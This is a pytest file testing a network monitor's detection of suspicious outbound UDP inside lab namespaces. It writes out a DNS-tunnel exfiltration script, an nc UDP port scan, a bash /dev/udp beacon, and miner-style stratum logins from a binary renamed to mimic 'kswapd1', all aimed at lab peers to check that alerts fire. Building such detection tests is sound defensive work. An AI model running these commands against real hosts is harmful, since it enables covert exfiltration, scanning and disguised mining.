"""Outbound UDP per process with the kernel and real tools (issue 12): the
loader in the lab's dut namespace (cgroup sendmsg/connect hooks, the egress
counter on its veth), every event it writes forwarded to a real
`llm_analyzer.py --backend rules`, and from the dut, as a real unprivileged
user: a DNS-tunnel pattern (3000 queries with encoded labels), a UDP port
scan with `nc -zu` (Debian's nmap refuses -sU without root: "requires root
privileges"; as root it is a raw-socket scan, tests/test_kernel_outbound.py),
a bash beacon over /dev/udp, miner-like clients to stratum port 3333, and
benign getent, curl and sntp lookups against a DNS responder on the peer.

The cgroup hooks are machine-wide: other processes' UDP shows up too, so
every assertion names this test's user (uid) or executable."""

from __future__ import annotations

import json
import os
import pwd
import queue
import shutil
import subprocess
import textwrap
import threading
from dataclasses import dataclass

import pytest

from netlab import lab, kernel_test_skip_reason, read_json, unload_all, validate, wait_until  # noqa: F401
from netsentinel.testing.lab import ROOT, VENV_PY, LoaderProc

SKIP = kernel_test_skip_reason() or next((f"{t} is missing (apt-get install {p})" for t, p in (
    ("nc", "netcat-openbsd"), ("sntp", "sntp"), ("useradd", "passwd"), ("curl", "curl"))
    if shutil.which(t) is None), None)
pytestmark = pytest.mark.skipif(SKIP is not None, reason=str(SKIP))

USER = f"nsudp{os.environ.get('NETSENTINEL_LAB_OCTET', '')}"

# A DNS responder for the peer: NXDOMAIN to every query (enough for
# resolvers, which then stop asking), "ready" once bound.
RESPONDER = textwrap.dedent("""
    import socket, sys
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((sys.argv[1], 53))
    print("ready", flush=True)
    while True:
        q, peer = s.recvfrom(4096)
        if len(q) >= 12:
            s.sendto(q[:2] + bytes([0x81, 0x83]) + q[4:6] + bytes(6) + q[12:], peer)
""")

# 3000 queries whose labels carry base32 chunks of a "file", one socket,
# each answer awaited: the exfiltration pattern of iodine/dnscat-style tools.
TUNNEL = textwrap.dedent("""
    import base64, os, socket, struct, sys
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    data = os.urandom(3000 * 20)
    for i in range(3000):
        label = base64.b32encode(data[i * 20:(i + 1) * 20]).decode().rstrip("=").lower()
        name = b"".join(bytes([len(p)]) + p.encode() for p in (label, f"{i}", "t", "example")) + b"\\0"
        s.sendto(struct.pack("!HHHHHH", i & 0xFFFF, 0x0100, 1, 0, 0, 0) + name + b"\\0\\x10\\0\\x01",
                 (sys.argv[1], 53))
        s.recvfrom(4096)
    print("done", flush=True)
""")


@pytest.fixture(scope="module")
def user():
    created = subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin",
                              USER], capture_output=True).returncode == 0
    try:
        yield pwd.getpwnam(USER).pw_uid
    finally:
        if created:
            subprocess.run(["userdel", USER], check=False)


@dataclass
class Responder:
    addr: str
    pid: int


@pytest.fixture(scope="module")
def resolver(lab):
    """The responder on the peer, and the dut's resolv.conf pointing at it
    (`ip netns exec` bind-mounts /etc/netns/NAME/resolv.conf)."""
    p = subprocess.Popen(["ip", "netns", "exec", lab.peer, "/usr/bin/python3", "-c", RESPONDER, lab.peer4],
                         stdout=subprocess.PIPE, text=True)
    etc = f"/etc/netns/{lab.dut}"
    os.makedirs(etc, exist_ok=True)
    with open(f"{etc}/resolv.conf", "w") as f:
        f.write(f"nameserver {lab.peer4}\noptions timeout:1 attempts:1\n")
    try:
        assert p.stdout.readline().strip() == "ready"
        yield Responder(lab.peer4, p.pid)   # `ip netns exec` execs python3: the same pid
    finally:
        p.kill()
        p.wait()
        shutil.rmtree(etc, ignore_errors=True)


class Pipeline:
    """The loader's events, kept, and forwarded to a rules-only analyzer."""

    def __init__(self, lab, records):
        cfg = records / "filter_config.json"
        cfg.write_text("{}")
        self.records = records
        self.loader = LoaderProc(lab, records, cfg, "--no-cgroup", echo=False)
        self.analyzer = subprocess.Popen(
            [VENV_PY, "-u", str(ROOT / "llm_analyzer.py"), "--records", str(records), "--config", str(cfg),
             "--backend", "rules", "--status-interval", "0.3", "--no-store"],
            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=open(records / "analyzer.log", "w"),
            cwd=ROOT, text=True)
        threading.Thread(target=self._forward, daemon=True).start()

    def _forward(self) -> None:
        while True:
            try:
                ev = self.loader.events.get(timeout=1)
            except queue.Empty:
                continue
            if ev is None:
                self.analyzer.stdin.close()
                return
            self.analyzer.stdin.write(json.dumps(ev) + "\n")
            self.analyzer.stdin.flush()

    def udp(self, uid: int, comm: str | None = None) -> list[dict]:
        return [e for e in list(self.loader.all_events) if e["type"] == "udp" and e.get("uid") == uid
                and (comm is None or e.get("comm") == comm)]

    def pending(self, category: str | None = None) -> list[dict]:
        return [t for t in read_json(self.records / "pending_threats.json", []) if t["status"] == "pending"
                and (category is None or t["category"] == category)]

    def drained(self) -> None:
        """Wait until the analyzer has read every line the loader wrote so far."""
        written = len(self.loader.all_events)
        wait_until(lambda: (read_json(self.records / "analyzer_status.json") or {}).get("input", {})
                   .get("lines", 0) >= written, timeout=20, what=f"the analyzer to read {written} lines")

    def threat(self, category: str, uid: int, what: str) -> dict:
        return wait_until(lambda: next((t for t in self.pending(category)
                                        if t["event"].get("uid") == uid), None),
                          timeout=30, what=what)


@pytest.fixture(scope="module")
def pipe(lab, tmp_path_factory, resolver):
    p = Pipeline(lab, tmp_path_factory.mktemp("records"))
    try:
        # The forwarder is the queue's one reader: wait on the kept events.
        validate(wait_until(lambda: next((e for e in list(p.loader.all_events) if e["type"] == "startup"),
                                         None), timeout=90, what="the loader's startup event"))
        wait_until(lambda: (read_json(p.records / "analyzer_status.json") or {}).get("input", {})
                   .get("other_events", {}).get("startup"), timeout=60, what="the analyzer to start")
        yield p
    finally:
        assert p.loader.stop() == 0, p.loader.stderr_lines[-10:]
        assert p.analyzer.wait(timeout=30) == 0, (p.records / "analyzer.log").read_text()[-2000:]
        unload_all(lab)


def as_user(lab, *argv: str, **kw) -> subprocess.CompletedProcess:
    return subprocess.run(["ip", "netns", "exec", lab.dut, "runuser", "-u", USER, "--", *argv],
                          capture_output=True, text=True, **kw)


def test_dns_tunnel_pattern_is_counted_in_the_kernel_and_high(lab, pipe, user, resolver):
    r = as_user(lab, "/usr/bin/python3", "-c", TUNNEL, resolver.addr, timeout=120)
    assert r.stdout.strip() == "done", r.stderr
    # Every datagram counted, over however many windows (the kernel's
    # aggregate: one first-datagram sighting, then counts).
    def sent() -> int:
        return sum(f["datagrams"] for e in pipe.udp(user, "python3") for f in e["flows"]
                   if (f["daddr"], f["dport"]) == (resolver.addr, 53))
    wait_until(lambda: sent() == 3000, timeout=20, what=f"3000 datagrams counted (have {sent()})")
    events = pipe.udp(user, "python3")
    for e in events:
        validate(e)
        assert e["exe"].startswith("/usr/bin/python3") and e["uid"] == user
    assert sum(e["new_flows"] for e in events) == 1     # one sighting for one destination port
    t = pipe.threat("dns_tunnel", user, "a pending dns_tunnel threat")
    assert t["level"] == "HIGH" and "python3" in t["reason"] and resolver.addr in t["reason"]
    assert t["event"]["exe"].startswith("/usr/bin/python3")


def test_unprivileged_udp_port_scan_is_critical_naming_nc(lab, pipe, user):
    as_user(lab, "nc", "-zu", "-w0", lab.peer4b, "1-60", timeout=60)
    t = pipe.threat("port_scan", user, "a pending UDP port_scan threat naming nc")
    assert t["level"] == "CRITICAL" and t["event"]["type"] == "udp"
    # nc -w0 can be gone before /proc is read: then the path it was started
    # with (the kernel's, "exe_source": "exec") names it.
    ev = t["event"]
    assert (ev["exe"], ev["exe_source"]) in ((os.path.realpath(shutil.which("nc")), "proc"),
                                             (shutil.which("nc"), "exec")), ev
    assert ev["comm"] == "nc" and "nc (" in t["reason"]
    assert f"on {lab.peer4b}" in t["reason"]
    ports = {f["dport"] for e in pipe.udp(user, t["event"]["comm"]) for f in e["flows"]
             if f["daddr"] == lab.peer4b}
    assert ports == set(range(1, 61))
    # The same over IPv6 (cgroup connect6/sendmsg6).
    as_user(lab, "nc", "-6", "-zu", "-w0", lab.peer6b, "1-20", timeout=60)
    v6 = wait_until(lambda: {(f["family"], f["dport"]) for e in pipe.udp(user, ev["comm"]) for f in e["flows"]
                             if f["daddr"] == lab.peer6b} == {("ipv6", p) for p in range(1, 21)},
                    timeout=20, what=f"nc's 20 datagram ports to {lab.peer6b}")
    assert v6


def test_a_periodic_udp_beacon_is_high_with_its_destination(lab, pipe, user):
    # bash opens, connects and writes /dev/udp itself (a builtin's
    # redirection): one long-lived process, one datagram every 3 s.
    as_user(lab, "bash", "-c", f"for i in $(seq 8); do echo hello >/dev/udp/{lab.peer4}/9999; sleep 3; done",
            timeout=90)
    t = pipe.threat("udp_beacon", user, "a pending udp_beacon threat")
    assert t["level"] == "HIGH" and t["event"]["comm"] == "bash"
    assert f"{lab.peer4}:9999 every" in t["reason"]
    assert t["target"] == lab.peer4       # a beacon's destination can be banned


def test_a_miner_like_client_to_stratum_3333_is_no_longer_medium(lab, pipe, user, tmp_path):
    listen = subprocess.Popen(["ip", "netns", "exec", lab.peer, "nc", "-lk", "3333"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    dropped = f"/tmp/nsudp-{os.getpid()}"
    os.makedirs(dropped, mode=0o755, exist_ok=True)
    shutil.copy(os.path.realpath(shutil.which("nc")), f"{dropped}/kswapd1")
    try:
        login = '{"id":1,"method":"login","params":{"login":"4Ab","agent":"XMRig/6.21"}}\n'
        as_user(lab, "nc", "-w1", lab.peer4, "3333", input=login, timeout=30)
        t = pipe.threat("mining", user, "a pending mining threat for nc")
        assert t["level"] == "HIGH" and "mining pool (stratum)" in t["reason"]
        # Another destination: connection threats merge per destination.
        as_user(lab, f"{dropped}/kswapd1", "-w1", lab.peer4b, "3333", input=login, timeout=30)
        crit = wait_until(lambda: [t for t in pipe.pending("mining") if t["event"].get("exe") ==
                                   f"{dropped}/kswapd1"], timeout=30, what="the dropped miner's threat")
        assert crit[0]["level"] == "CRITICAL" and "mining-pool-untrusted-exe" in crit[0]["rule_ids"]
    finally:
        listen.kill()
        listen.wait()
        shutil.rmtree(dropped, ignore_errors=True)


def test_benign_lookups_and_ntp_are_seen_and_not_threats(lab, pipe, user, resolver):
    for i in range(12):   # each lookup from new random ports: the responder's replies fan out
        as_user(lab, "getent", "hosts", f"www{i}.example.org", timeout=30)
    as_user(lab, "curl", "-s", "-m", "5", "http://downloads.example.org/", timeout=30)
    as_user(lab, "sntp", "-t", "1", lab.peer4, timeout=30)
    # Each was seen (visibility), named, and nothing was judged a threat.
    for comm, port in (("getent", 53), ("curl", 53), ("sntp", 123)):
        wait_until(lambda: [e for e in pipe.udp(user) if (e["comm"] or "").startswith(comm[:4])
                            and any(f["dport"] == port for f in e["flows"])],
                   timeout=20, what=f"{comm}'s udp event")
    pipe.drained()
    # The responder answered every lookup and the tunnel (3000 datagrams, to
    # each client's own port): replies to peers that spoke first are not
    # outbound flows.
    assert not [e for e in pipe.loader.all_events if e["type"] == "udp" and e["pid"] == resolver.pid]
    benign = {"getent", "curl", "sntp", "ntpdig"}
    assert not [t for t in pipe.pending() if t["event"].get("uid") == user
                and t["event"].get("comm") in benign], pipe.pending()


def test_browser_quic_to_443_is_seen_and_normal(lab, pipe, user):
    """Headless Chromium forced onto QUIC (HTTP/3) towards the peer: its
    Initial packets (retried with backoff, no QUIC server answers) are UDP to
    443 from a browser, the `normal` pair, not a beacon or a scan."""
    if shutil.which("chromium") is None:
        pytest.skip("chromium is not installed (apt-get install chromium)")
    home = f"/tmp/nsudp-chromium-{os.getpid()}"
    os.makedirs(home, mode=0o700, exist_ok=True)
    os.chown(home, user, -1)
    try:
        r = as_user(lab, "env", f"HOME={home}", "timeout", "150", "/usr/bin/chromium", "--headless", "--no-sandbox",
                "--disable-gpu", "--no-first-run", "--disable-background-networking",
                f"--user-data-dir={home}/profile", "--enable-quic",
                "--origin-to-force-quic-on=www.example.org:443",
                f"--host-resolver-rules=MAP www.example.org {lab.peer4}", "--dump-dom",
                "https://www.example.org/", timeout=200)
        assert r.returncode != 124, "chromium did not finish its page load within 150 s (machine overloaded?)"
        quic = wait_until(lambda: [e for e in pipe.udp(user) if (e["exe"] or "").endswith("/chromium")
                                   and any((f["daddr"], f["dport"]) == (lab.peer4, 443) for f in e["flows"])],
                          timeout=20, what=f"Chromium's QUIC datagrams to the peer's 443 (chromium exit "
                          f"{r.returncode}: {r.stderr[-300:]!r}; its udp events: "
                          f"{[e['flows'][:3] for e in pipe.udp(user) if 'chrom' in (e['exe'] or '')]})")
        validate(quic[0])
        pipe.drained()
        assert not [t for t in pipe.pending() if t["event"].get("uid") == user
                    and (t["event"].get("exe") or "").endswith("/chromium")], pipe.pending()
    finally:
        shutil.rmtree(home, ignore_errors=True)
